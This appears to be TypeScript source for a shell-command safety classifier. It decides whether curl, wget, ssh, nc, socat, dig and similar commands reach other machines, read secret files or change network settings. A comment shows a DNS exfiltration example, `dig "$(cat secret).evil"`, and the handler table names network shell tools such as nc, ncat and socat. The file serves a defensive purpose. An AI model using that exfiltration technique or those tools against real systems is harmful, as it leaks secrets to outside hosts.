import type { Effect } from "../../effects.ts";
import { hasOption, optionValues, parseOptions, type OptionSpec } from "../options.ts";
import { checkRead, checkWrite } from "../paths.ts";
import { effect, opaque, type Handler, type Invocation } from "../shell-context.ts";

/**
 * Commands that reach a network address. HTTP to the step's own loopback is allowed for reads
 * and for the few endpoints whose effect is known (`/-/reload`); any other address is another
 * machine: a remote effect, with `reaches` set so a protected host is refused by name or address.
 */

/** Loopback endpoints whose effect is known, by method and path. */
const LOCAL_ENDPOINTS: { method: string; path: RegExp; effect: Effect["effect"]; what: string }[] = [
  { method: "POST", path: /^\/-\/reload$/, effect: "reload", what: "hot-reloads Prometheus or Alertmanager" },
  { method: "PUT", path: /^\/-\/reload$/, effect: "reload", what: "hot-reloads Prometheus or Alertmanager" },
  { method: "POST", path: /^\/-\/quit$/, effect: "stateful-restart", what: "shuts the server down" },
  { method: "PUT", path: /^\/-\/quit$/, effect: "stateful-restart", what: "shuts the server down" },
];

export function isLoopback(host: string): boolean {
  const h = host
    .toLowerCase()
    .replace(/^\[|\]$/g, "")
    .replace(/\.$/, "");
  return h === "localhost" || h === "::1" || h === "0.0.0.0" || /^127\.\d+\.\d+\.\d+$/.test(h) || /^::ffff:127\./.test(h) || h === "0:0:0:0:0:0:0:1";
}

/** The host of `user@host`, `host:path`, `ssh://user@host:port`. */
export function hostOf(target: string): string {
  const url = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/]*@)?(\[[^\]]*\]|[^/:]*)/i.exec(target);
  if (url) return url[1]!;
  const withoutUser = target.slice(target.lastIndexOf("@") + 1);
  return withoutUser.startsWith("[") ? withoutUser.slice(0, withoutUser.indexOf("]") + 1) : withoutUser.split(":")[0]!;
}

/**
 * The one URL form the classifier reads: scheme://host[:port][/path], the host a plain name, IPv4 or
 * bracketed IPv6. Anything else — user info (`@`), a backslash (curl and WHATWG disagree on it),
 * percent-escapes or globs in the host, whitespace or control characters — is opaque, because
 * curl, wget and the classifier's URL parser could each read a different host from it.
 */
const PLAIN_URL = /^https?:\/\/([A-Za-z0-9.-]+|\[[0-9A-Fa-f:.]+\])(:\d{1,5})?([/?#][^\s\\@]*)?$/;

function http(call: Invocation, url: string | undefined, method: string, outputs: string[]): Effect[] {
  if (url === undefined) return [opaque(call, "http", "the URL is not static")];
  if (!PLAIN_URL.test(url)) return [opaque(call, "http", `"${url}" is not a plain scheme://host[:port]/path URL: tools could read another host from it`)];
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return [opaque(call, "http", `"${url}" is not a URL the classifier can read`)];
  }
  if (parsed.protocol !== "http:" && parsed.protocol !== "https:") return [opaque(call, "http", `the ${parsed.protocol} scheme is not in the vocabulary`)];
  const written = outputs.map((path) => {
    const verdict = checkWrite(path, call.env.writable);
    return verdict.ok ? effect(call, "write", "http -o", `saves the answer to ${path}`) : effect(call, verdict.effect, "http -o", verdict.why);
  });
  if (!isLoopback(parsed.hostname))
    return [effect(call, "remote", `http ${method}`, `reaches ${parsed.hostname}, another machine`, { reaches: parsed.hostname }), ...written];
  if (method === "GET" || method === "HEAD")
    return [effect(call, "local-http", `http ${method}`, `reads ${parsed.pathname} on the host's own loopback`), ...written];
  const known = LOCAL_ENDPOINTS.find((e) => e.method === method && e.path.test(parsed.pathname));
  if (!known) return [opaque(call, `http ${method}`, `${method} ${parsed.pathname} on loopback: an endpoint whose effect is not known`)];
  return [effect(call, known.effect, `http ${method} ${parsed.pathname}`, known.what), ...written];
}

const CURL: OptionSpec = {
  flags: "fsSIkvqG",
  valued: "XmoHwdu",
  long: {
    fail: "flag",
    silent: "flag",
    "show-error": "flag",
    head: "flag",
    insecure: "flag",
    verbose: "flag",
    request: "value",
    "max-time": "value",
    "connect-timeout": "value",
    output: "value",
    header: "value",
    "write-out": "value",
    data: "value",
    "data-raw": "value",
    "data-binary": "value",
    "data-urlencode": "value",
    user: "value",
    retry: "value",
    "retry-delay": "value",
    "retry-max-time": "value",
    url: "value",
    get: "flag",
    "fail-with-body": "flag",
    "no-progress-meter": "flag",
  },
};

const curl: Handler = (call) => {
  const parsed = parseOptions(call.argv.slice(1), CURL);
  if (!parsed.ok) return [opaque(call, "curl options", parsed.reason)];
  const p = parsed.value;
  const hasData = hasOption(p, "d", "data", "data-raw", "data-binary", "data-urlencode") && !hasOption(p, "G", "get");
  const method = (optionValues(p, "X", "request").at(-1) ?? (hasOption(p, "I", "head") ? "HEAD" : hasData ? "POST" : "GET")).toUpperCase();
  const urls = [...optionValues(p, "url"), ...p.operands.map((w) => w.value)];
  if (urls.length === 0) return [opaque(call, "curl", "names no URL")];
  // `@FILE` in a data or write-out option reads that file (and sends it, or prints it).
  const fileValues = [...p.options.values()]
    .flat()
    .filter((v) => v.startsWith("@"))
    .map((v) => v.slice(1));
  const secrets = fileValues.flatMap((f) => {
    const v = checkRead(f);
    return v.ok ? [] : [effect(call, v.effect, "curl @file", v.why)];
  });
  const unknown = fileValues.some((f) => f === "-" || !f.startsWith("/")) ? [opaque(call, "curl @file", "reads a file the classifier cannot place")] : [];
  return [...secrets, ...unknown, ...urls.flatMap((url) => http(call, url, method, optionValues(p, "o", "output")))];
};

const wget: Handler = (call) => {
  const parsed = parseOptions(call.argv.slice(1), {
    flags: "qS",
    valued: "OT",
    long: {
      quiet: "flag",
      "output-document": "value",
      timeout: "value",
      tries: "value",
      "post-data": "value",
      method: "value",
      "server-response": "flag",
      spider: "flag",
    },
  });
  if (!parsed.ok) return [opaque(call, "wget options", parsed.reason)];
  const p = parsed.value;
  const method = (optionValues(p, "method").at(-1) ?? (hasOption(p, "post-data") ? "POST" : "GET")).toUpperCase();
  const outputs = optionValues(p, "O", "output-document").filter((o) => o !== "-");
  if (p.operands.length === 0) return [opaque(call, "wget", "names no URL")];
  if (outputs.length === 0 && !hasOption(p, "spider") && !optionValues(p, "O", "output-document").includes("-"))
    return [opaque(call, "wget", "saves into the working directory: give -O FILE or -O -")];
  return p.operands.flatMap((w) => http(call, w.value, method, outputs));
};

const SSH: OptionSpec = {
  stopAtOperand: true,
  flags: "qvnTt46AaCxkKNsy",
  valued: "plioJbcmEFLRDWwSOQBe",
};

/** `ssh HOST CMD`: another machine, and the command it runs there classified too. */
const ssh: Handler = (call) => {
  const parsed = parseOptions(call.argv.slice(1), SSH);
  if (!parsed.ok) return [opaque(call, "ssh options", parsed.reason)];
  const p = parsed.value;
  const [destination, ...command] = p.operands;
  if (destination?.value === undefined) return [opaque(call, "ssh", "the destination is not static")];
  const host = hostOf(destination.value);
  const jumps = optionValues(p, "J")
    .flatMap((j) => j.split(","))
    .map(hostOf);
  const risky = ["o", "F", "L", "R", "D", "W", "w", "S", "O"].filter((o) => p.options.has(o));
  const effects: Effect[] = [host, ...jumps].map((h) => effect(call, "remote", "ssh", `runs a command on ${h}, another machine`, { reaches: h }));
  if (risky.length > 0) effects.push(opaque(call, "ssh options", `-${risky.join(", -")} change how or where ssh connects`));
  if (command.length === 0) effects.push(opaque(call, "ssh", "opens a session that reads commands the classifier cannot see"));
  else {
    const text = command.map((w) => w.value);
    effects.push(...(text.includes(undefined) ? [opaque(call, "ssh", "the remote command is not static")] : call.env.shell(text.join(" "))));
  }
  return effects;
};

/** scp, sftp, nc and friends: every host they name is reached. */
function reachesOperands(rule: string, kind: Effect["effect"], spec: OptionSpec): Handler {
  return (call) => {
    const parsed = parseOptions(call.argv.slice(1), { ...spec, dynamic: false });
    if (!parsed.ok) return [opaque(call, `${rule} options`, parsed.reason)];
    const hosts = parsed.value.operands.map((w) => w.value).filter((v) => v !== undefined && (rule !== "scp" || v.includes(":")));
    if (hosts.length === 0) return [opaque(call, rule, "names no host")];
    return hosts.map((h) => effect(call, kind, rule, `reaches ${hostOf(h!)}`, { reaches: hostOf(h!) }));
  };
}

/** `ip OBJECT [show|list|get]` only looks; every other form changes the network. */
const ip: Handler = (call) => {
  const parsed = parseOptions(call.argv.slice(1), {
    stopAtOperand: true,
    flags: "46sdjpcoh",
    long: { brief: "flag", br: "flag", json: "flag", details: "flag", stats: "flag", color: "flag", pretty: "flag" },
  });
  if (!parsed.ok) return [opaque(call, "ip options", parsed.reason)];
  const [object, verb] = parsed.value.operands.map((w) => w.value);
  const objects = /^(a|addr|address|l|link|r|ro|route|n|neigh|neighbour|ru|rule|maddr|mroute|netconf)$/;
  if (object !== undefined && objects.test(object) && (verb === undefined || /^(show|list|ls|lst|get|dev)$/.test(verb)))
    return [effect(call, "read", "ip show", "lists network state")];
  return [effect(call, "network", "ip", "changes interfaces, addresses, routes or rules")];
};

const lookup: Handler = (call) => {
  // A name that expands can carry data out in the question itself (`dig "$(cat secret).evil"`).
  if (call.argv.slice(1).some((w) => w.value === undefined)) return [opaque(call, "network probe", "a name that expands could carry data out in the lookup")];
  // dig -f FILE / -k KEYFILE send a file's lines to the server; ping -p carries a pattern, -f floods.
  if (call.argv.slice(1).some((w) => /^-[a-zA-Z]*[fkpi]/.test(w.value!) && !w.value!.startsWith("--")))
    return [opaque(call, "network probe", "an option that reads a file or shapes the packets")];
  const servers = call.argv.slice(1).flatMap((w) => (w.value!.startsWith("@") ? [w.value!.slice(1)] : []));
  if (servers.length > 0)
    return [effect(call, "read", "network probe", "sends a lookup"), ...servers.map((h) => effect(call, "remote", "dns @server", `asks ${h}`, { reaches: h }))];
  const names = call.argv
    .slice(1)
    .map((w) => w.value)
    .filter((v): v is string => v !== undefined && !v.startsWith("-") && !v.startsWith("@") && !/^\d+$/.test(v));
  return [
    effect(call, "read", "network probe", "sends a probe and reads the answer"),
    ...names.map((h) => effect(call, "read", "network probe", `probes ${h}`, { reaches: h })),
  ];
};

/**
 * sysctl: any setting is a server change; a `net.*` key, or loading files of settings (`-p`,
 * `--system`, which may hold `net.*`), is a network change. Reading (`-a`, `-n key`) is a read.
 */
const sysctl: Handler = (call) => {
  const words = call.argv.slice(1).map((w) => w.value);
  if (words.some((w) => w === undefined)) return [opaque(call, "sysctl", "a setting that expands cannot be told apart")];
  const args = words as string[];
  // -p, -f (procps' alias) and any prefix of --load / --system load files of settings.
  const loads = (a: string) =>
    (/^-[a-zA-Z]*[pf]/.test(a) && !a.startsWith("--")) ||
    (a.startsWith("--") && a.length > 3 && ["--load", "--system"].some((o) => o.startsWith(a.split("=")[0]!)));
  if (args.some((a) => loads(a) || (/^\/?net[./]/.test(a) && a.includes("="))))
    return [effect(call, "network", "sysctl net", "changes kernel network settings")];
  if (args.some((a) => a.includes("=") || /^-[a-zA-Z]*w/.test(a) || a === "--write")) return [effect(call, "server", "sysctl -w", "changes a kernel setting")];
  // Reading: only -a, -n, -e, -N, -q, -b and keys.
  if (args.some((a) => a.startsWith("-") && !/^-[aneNqb]+$/.test(a) && !["--all", "--values", "--names"].includes(a)))
    return [opaque(call, "sysctl", "only the reading options of sysctl are in the vocabulary")];
  return [effect(call, "read", "sysctl", "reads kernel settings")];
};

export const NETWORK_COMMANDS: Record<string, Handler> = {
  sysctl,
  curl,
  wget,
  ssh,
  scp: reachesOperands("scp", "remote", { flags: "qrpCv346BT", valued: "PioFlJcS" }),
  sftp: reachesOperands("sftp", "remote", { flags: "qrpCv346", valued: "PioFbJ" }),
  nc: reachesOperands("nc", "network", { flags: "zuvnlkN46", valued: "wqps" }),
  ncat: reachesOperands("ncat", "network", { flags: "zuvnlkN46", valued: "wqps" }),
  netcat: reachesOperands("netcat", "network", { flags: "zuvnlkN46", valued: "wqps" }),
  telnet: reachesOperands("telnet", "network", {}),
  socat: (call) => [effect(call, "network", "socat", "relays between arbitrary endpoints")],
  ip,
  ping: lookup,
  ping6: lookup,
  dig: lookup,
  host: lookup,
  nslookup: lookup,
};
